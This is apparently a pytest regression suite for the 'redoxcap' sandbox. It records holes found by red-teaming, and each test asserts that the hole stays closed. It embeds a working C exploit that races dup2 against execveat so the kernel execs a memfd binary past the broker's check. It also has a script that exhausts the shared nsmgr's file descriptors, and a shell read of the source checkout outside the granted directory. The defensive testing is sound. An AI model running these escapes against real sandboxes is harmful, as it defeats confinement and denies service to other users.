"""Holes found by red-teaming `redoxcap run --dir D` (each test fails while the hole is open).

The attacker is the confined program; what it must not reach is anything outside D, its
private /tmp and the read-only host trees the docs list (docs/sandbox.md).
"""

from __future__ import annotations

import errno
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from test_everyday import sandboxed

import redoxcap
from redoxcap.broker import available
from redoxcap.nsmgr.namespace import MAX_PASSED_PER_ACCOUNT

pytestmark = pytest.mark.skipif(available() is not None, reason=str(available()))

CHECKOUT = Path(redoxcap.__file__).resolve().parents[1]


@pytest.mark.skipif(not (CHECKOUT / "pyproject.toml").is_file(), reason="not a source checkout")
def test_the_source_checkout_is_not_granted_as_a_whole(redoxcap_module_system, tmp_path):
    """docs/sandbox.md: "A directory that is or contains ... a source checkout on sys.path ...
    is never granted as a whole"; only redoxcap's own package directories are. But in a
    source checkout `redoxcap/__init__.py` appends the checkout's top to `redoxcap.__path__`,
    and policy.project_package_locations() takes every entry of it, so every brokered run
    may read (and Landlock lets it open and exec) the whole checkout: pyproject.toml, docs,
    tests, its `.git`, a venv or an `.env` kept there, anything a developer puts beside the
    packages."""
    project = tmp_path / "proj"
    project.mkdir()
    secret = CHECKOUT / "pyproject.toml"  # no package's file: beside them, at the top
    got = sandboxed(redoxcap_module_system, project,
                    ["sh", "-c", f'cat {secret} >/dev/null && echo READ; ls {CHECKOUT} >/dev/null && echo LISTED'])
    assert "READ" not in got.stdout and "LISTED" not in got.stdout, got.stdout


EXEC_FD_RACE = r"""
#define _GNU_SOURCE
#include <stdio.h>
#include <errno.h>
#include <string.h>
#include <stdlib.h>
#include <unistd.h>
#include <fcntl.h>
#include <pthread.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/mman.h>
/* a program that exists in no file: this binary, with its marker patched, in a memfd */
static const char marker[] = "MARKER:unpatched";
int good, evil; volatile int stop;
#define N 50
void *swap(void *a) { while (!stop) { dup2(good, N); dup2(evil, N); } return 0; }
int main(int argc, char **argv) {
  if (argc > 2) { printf("%s\n", marker); return 0; }
  static char img[1 << 22];
  int self = open(argv[0], O_RDONLY);
  ssize_t n = read(self, img, sizeof img);
  char *m = memmem(img, n, marker, sizeof marker - 1);
  if (!m) return 2;
  memcpy(m, "MARKER:in-memfd!", 16);
  evil = memfd_create("evil", 0);
  write(evil, img, n);
  good = open("/usr/bin/true", O_RDONLY);
  int tries = atoi(argv[1]);
  for (int i = 0; i < tries; i++) {
    pid_t p = fork();
    if (p == 0) {
      pthread_t t; pthread_create(&t, 0, swap, 0);
      char *av[] = {"x", "1", "child", NULL}; char *ev[] = {NULL};
      for (;;) syscall(SYS_execveat, N, "", av, ev, AT_EMPTY_PATH);
    }
    int st; waitpid(p, &st, 0);
  }
  return 0;
}
"""


@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc")
def test_a_racing_dup2_never_execs_a_memfd(redoxcap_module_system, tmp_path):
    """docs/sandbox.md: execveat of an fd runs only "a regular file of either" (a host tree or
    a --dir directory), and whatever a racing thread does, "the kernel can exec only a file
    beneath those: one the program could have named directly". The broker checks the fd and
    lets the kernel run the call, which reads the fd *number* again: a thread dup2s a memfd
    over it meanwhile, and the kernel execs the memfd (Landlock does not check files on
    internal mounts). Here the only directory is read-only and the memfd holds a binary that
    is in no file at all (the racer with a patched marker): it runs, about 1 in 5 tries,
    though the broker answers a plain execveat of the memfd EACCES."""
    project = tmp_path / "proj"
    project.mkdir()
    (project / "mxr.c").write_text(EXEC_FD_RACE)
    subprocess.run(["gcc", "-O1", "-static", "-pthread", "-o", str(project / "mxr"),
                    str(project / "mxr.c")], check=True)
    got = redoxcap_module_system.run("--dir", f"{project}:ro", "--", str(project / "mxr"), "200",
                                     check=False, timeout=120)
    assert "MARKER:in-memfd!" not in got.stdout, got.stdout


NS_FILL = r"""
import os, sys, rt
ns, cwd = int(os.environ["REDOXCAP_NS_FD"]), int(os.environ["REDOXCAP_CWD_FD"])
n = err = 0
try:
    for i in range(6000):
        rt.register(ns, f"x{i}", cwd)  # nsmgr keeps an fd for each entry
        n += 1
except OSError as exc:
    err = exc.errno
print("stopped", n, err, flush=True)
sys.stdin.read()
"""


def test_runs_cannot_exhaust_nsmgr_for_every_other_run(redoxcap_system, tmp_path):
    """Each NS_REGISTER in a run's own namespace (a --dir run's holds PERM_INSERT) has the
    shared nsmgr keep an fd for the entry, and the router does not count the same
    capability again: five confined runs registering their cwd under thousands of names
    took nsmgr to its RLIMIT_NOFILE (20,000), and from then on every other run failed
    ("--uds-scope private: Input/output error"). Now the entries a client's capabilities
    make are counted per account (nsmgr/namespace.py, Passed): EMFILE at 256, given back
    with the entries (here, when the run ends), and another run keeps working; what nsmgr
    holds for a run is within its quota of 1,024 (the entries, and the clones its namespace
    forks hold, which the router charges to it)."""
    project = tmp_path / "proj"
    project.mkdir()
    (project / "fill.py").write_text(NS_FILL)
    nsmgr = next(d["pid"] for d in redoxcap_system.status()["daemons"] if d["name"] == "nsmgr")
    before = len(os.listdir(f"/proc/{nsmgr}/fd"))
    fillers = [redoxcap_system.start("run", "--dir", str(project), "--", sys.executable, str(project / "fill.py"))
               for _ in range(5)]  # five runs: five accounts
    try:
        stops = [filler.stdout.readline().split() for filler in fillers]
        assert all(stop[:1] == ["stopped"] and int(stop[1]) <= MAX_PASSED_PER_ACCOUNT and int(stop[2]) == errno.EMFILE
                   for stop in stops), stops
        held = len(os.listdir(f"/proc/{nsmgr}/fd"))
        assert held - before <= 5 * 1024, f"nsmgr holds {held - before} more fds for them"
        other = tmp_path / "other"
        other.mkdir()
        got = redoxcap_system.run("--dir", str(other), "--", "sh", "-c", "echo other run ok",
                                  check=False, timeout=60)
        assert got.returncode == 0 and "other run ok" in got.stdout, got.stderr
    finally:
        for filler in fillers:
            filler.communicate("", timeout=60)
    # given back as the runs ended: a new one may register as many again
    again = redoxcap_system.start("run", "--dir", str(project), "--", sys.executable, str(project / "fill.py"))
    try:
        assert again.stdout.readline().split()[:2] == stops[0][:2]
    finally:
        again.communicate("", timeout=60)
